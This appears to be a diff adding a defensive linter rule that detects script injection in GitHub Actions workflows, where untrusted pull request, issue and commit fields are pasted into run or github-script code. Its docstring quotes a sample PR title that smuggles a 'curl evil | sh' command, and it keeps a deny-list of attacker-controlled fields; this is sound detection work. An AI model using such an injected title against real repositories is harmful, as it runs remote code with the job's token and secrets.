@@ -1,0 +1,247 @@
+"""Untrusted event data expanded straight into a script.
+
+GitHub substitutes ``${{ }}`` expressions into the text of a ``run:`` script (or the
+``script:`` of actions/github-script) before the shell or Node sees it, so a pull request
+title such as ``"; curl evil | sh; echo "`` becomes code. The rule works from a deny-list of
+values an outside contributor controls (titles, bodies, branch names, commit messages and
+author fields); values such as ``github.actor``, ``github.sha`` or a PR number cannot carry
+shell syntax and are not reported.
+"""
+from __future__ import annotations
+
+import re
+
+from ...core.located import LMap
+from ...core.model import Step
+from ...core.registry import check
+from .tokens import _uses
+from ...lib.gha.expression import Call, Bin, Index, Lit, Not, Prop, Var, expressions_in, parse
+
+# attacker-controlled values; '*' matches one array index
+UNTRUSTED = (
+    "github.head_ref",
+    "github.event.issue.title",
+    "github.event.issue.body",
+    "github.event.pull_request.title",
+    "github.event.pull_request.body",
+    "github.event.pull_request.head.ref",
+    "github.event.pull_request.head.label",
+    "github.event.pull_request.head.repo.default_branch",
+    "github.event.pull_request.head.repo.description",
+    "github.event.pull_request.head.repo.homepage",
+    "github.event.comment.body",
+    "github.event.review.body",
+    "github.event.review_comment.body",
+    "github.event.discussion.title",
+    "github.event.discussion.body",
+    "github.event.pages.*.page_name",
+    "github.event.commits.*.message",
+    "github.event.commits.*.author.email",
+    "github.event.commits.*.author.name",
+    "github.event.commits.*.committer.email",
+    "github.event.commits.*.committer.name",
+    "github.event.head_commit.message",
+    "github.event.head_commit.author.email",
+    "github.event.head_commit.author.name",
+    "github.event.head_commit.committer.email",
+    "github.event.head_commit.committer.name",
+    "github.event.workflow_run.head_branch",
+    "github.event.workflow_run.display_title",
+    "github.event.workflow_run.head_commit.message",
+    "github.event.workflow_run.head_commit.author.email",
+    "github.event.workflow_run.head_commit.author.name",
+    "github.event.workflow_run.head_commit.committer.email",
+    "github.event.workflow_run.head_commit.committer.name",
+    "github.event.workflow_run.head_repository.description",
+    "github.event.workflow_run.pull_requests.*.head.ref",
+    "github.event.merge_group.head_commit.message",
+    "github.event.merge_group.head_commit.author.email",
+    "github.event.merge_group.head_commit.author.name",
+)
+_UNTRUSTED = [tuple(p.split(".")) for p in UNTRUSTED]
+
+SCRIPT_ACTIONS = ("actions/github-script",)
+
+
+def _match(path: tuple[str, ...], pattern: tuple[str, ...]) -> bool:
+    return len(path) == len(pattern) and all(p == q or q == "*" for p, q in zip(path, pattern))
+
+
+def _covers(path: tuple[str, ...]) -> str | None:
+    """The untrusted value that ``path`` names or (as a whole object) contains."""
+    for pat in _UNTRUSTED:
+        if _match(path, pat):
+            return ".".join(path)
+    return None
+
+
+def _object_with_untrusted(path: tuple[str, ...]) -> str | None:
+    """``github.event`` or ``github.event.pull_request`` serialised whole (``toJSON``)."""
+    if len(path) < 2 or path[:2] != ("github", "event"):
+        return None
+    for pat in _UNTRUSTED:
+        if len(pat) > len(path) and all(p == q or q == "*" for p, q in zip(path, pat)):
+            return ".".join(path)
+    return None
+
+
+_SAFE_CALLS = ("contains", "startswith", "endswith")  # they return a boolean
+_COMPARE = ("==", "!=", "<", "<=", ">", ">=")
+
+
+def _chain_path(n) -> tuple[tuple[str, ...], int] | None:
+    """The static path of a property chain (``github.event.commits[0].message`` ->
+    ('github', 'event', 'commits', '*', 'message')) and the offset of its context name."""
+    names: list[str] = []
+    cur = n
+    while isinstance(cur, (Prop, Index)):
+        if isinstance(cur, Prop):
+            names.append("*" if cur.name.isdigit() else cur.name.lower())
+        elif isinstance(cur.index, Lit) and isinstance(cur.index.value, str) and cur.index.value != "*":
+            names.append(cur.index.value.lower())
+        else:
+            names.append("*")
+        cur = cur.obj
+    if not isinstance(cur, Var):
+        return None
+    names.append(cur.name.lower())
+    return tuple(reversed(names)), cur.start
+
+
+def untrusted_in(node, env: dict[str, str] | None = None) -> list[tuple[str, int]]:
+    """(untrusted value, offset of its context name) for each deny-listed value whose text
+    an expression can print. Values that only decide a boolean cannot carry code:
+    arguments of contains/startsWith/endsWith, operands of comparisons and of ``!``, and
+    the left side of ``&&`` (it is printed only when empty). ``env`` maps variables set
+    from an untrusted value to it: ``${{ env.TITLE }}`` pastes that value just the same
+    (reported as ``env.TITLE``)."""
+    out: list[tuple[str, int]] = []
+
+    def visit(n, safe: bool, whole: bool) -> None:
+        if isinstance(n, (Prop, Index, Var)):
+            got = _chain_path(n)
+            if got is not None and not safe:
+                path, at = got
+                hit = _covers(path) or (_object_with_untrusted(path) if whole else None)
+                if hit is None and env and len(path) == 2 and path[0] == "env" and path[1] in env:
+                    hit = f"env.{env[path[1]][0]}"
+                if hit and all(h != hit or a != at for h, a in out):
+                    out.append((hit, at))
+            # computed indexes only pick which value is read
+            cur = n
+            while isinstance(cur, (Prop, Index)):
+                if isinstance(cur, Index):
+                    visit(cur.index, True, False)
+                cur = cur.obj
+            if not isinstance(cur, Var):
+                visit(cur, safe, whole)
+            return
+        if isinstance(n, Call):
+            name = n.name.lower()
+            for a in n.args:
+                visit(a, safe or name in _SAFE_CALLS, name == "tojson")
+            return
+        if isinstance(n, Not):
+            visit(n.operand, True, False)
+            return
+        if isinstance(n, Bin):
+            if n.op in _COMPARE:
+                visit(n.left, True, False)
+                visit(n.right, True, False)
+            elif n.op == "&&":
+                visit(n.left, True, False)
+                visit(n.right, safe, whole)
+            else:
+                visit(n.left, safe, whole)
+                visit(n.right, safe, whole)
+
+    if node is not None:
+        visit(node, False, False)
+    return out
+
+
+def untrusted_refs(inner: str) -> list[str]:
+    """Untrusted values an expression reads (deny-list), in order."""
+    node, err = parse(inner)
+    if node is None:
+        return []
+    out: list[str] = []
+    for value, _ in sorted(untrusted_in(node), key=lambda v: v[1]):
+        if value not in out:
+            out.append(value)
+    return out
+
+
+def _env_name(value: str) -> str:
+    parts = value.split(".")
+    if parts[:2] == ["github", "event"]:
+        parts = parts[2:]
+    name = "_".join(p for p in parts if p != "*").upper()
+    return re.sub(r"[^A-Z0-9_]", "_", name) or "VALUE"
+
+
+@check("script-injection", on="step")
+def script_injection(ctx, step: Step) -> None:
+    node = step.node
+    targets = []
+    run = node.get("run")
+    if isinstance(run, str):
+        targets.append((node, "run", run, "shell script"))
+    if _uses(node) in SCRIPT_ACTIONS and isinstance(node.get("with"), LMap):
+        script = node["with"].get("script")
+        if isinstance(script, str):
+            targets.append((node["with"], "script", script, "JavaScript of actions/github-script"))
+    env = _tainted_env(step)
+    for holder, key, text, what in targets:
+        span = holder.value_span(key)
+        for parsed in expressions_in(text):
+            for value, at in sorted(untrusted_in(parsed.node, env), key=lambda v: v[1]):
+                width = len(value.split(".")[0])
+                if value.startswith("env."):
+                    name, source = env[value[4:].lower()]
+                    ref = f'"${name}"' if key == "run" else f"process.env.{name}"
+                    message = (
+                        f"`env.{name}` holds `{source}`, which is set by whoever opens the pull request, issue "
+                        f"or commit, and `${{{{ env.{name} }}}}` pastes it into the {what} before it runs, so a "
+                        "crafted value runs as code in the job, with its token and any secrets it can read. "
+                        f"Fix: read the variable at run time, {ref}, instead of through `${{{{ }}}}`"
+                    )
+                    value = source
+                else:
+                    var = _env_name(value)
+                    ref = f'"${var}"' if key == "run" else f"process.env.{var}"
+                    if value == "github.head_ref" and key == "run":
+                        var, ref = "HEAD_REF", '"$HEAD_REF" (or the runner\'s own "$GITHUB_HEAD_REF")'
+                    message = (
+                        f"`{value}` is set by whoever opens the pull request, issue or commit, and "
+                        f"`${{{{ }}}}` pastes it into the {what} before it runs, so a crafted value "
+                        f"runs as code in the job, with its token and any secrets it can read. Fix: pass it through "
+                        f"`env:` (`{var}: ${{{{ {value} }}}}`) and read {ref} instead"
+                    )
+                ctx.report(
+                    "script-injection",
+                    ctx.sub_span(span, text, at, at + width),
+                    message,
+                    context=f"{step.ident}:{key}:{value}",
+                )
+
+
+def _tainted_env(step: Step) -> dict[str, tuple[str, str]]:
+    """Lower-cased env names (workflow, job, then step level) set from an untrusted value:
+    name -> (name as written, the untrusted value)."""
+    out: dict[str, tuple[str, str]] = {}
+    holders = [step.root, step.job.node if step.job is not None else None, step.node]
+    for h in holders:
+        env = h.get("env") if isinstance(h, LMap) else None
+        if not isinstance(env, LMap):
+            continue
+        for k, v in env.items():
+            hits = []
+            if isinstance(v, str) and "${{" in v:
+                for parsed in expressions_in(v):
+                    hits += untrusted_in(parsed.node)
+            if hits:
+                out[str(k).lower()] = (str(k), hits[0][0])
+            else:
+                out.pop(str(k).lower(), None)
+    return out
